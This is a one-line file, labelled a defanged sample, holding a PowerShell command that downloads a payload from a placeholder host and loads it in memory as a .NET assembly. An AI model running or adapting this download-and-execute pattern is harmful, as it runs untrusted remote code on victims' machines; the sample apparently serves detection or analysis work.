# defanged sample
[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://a.example.invalid/x'))
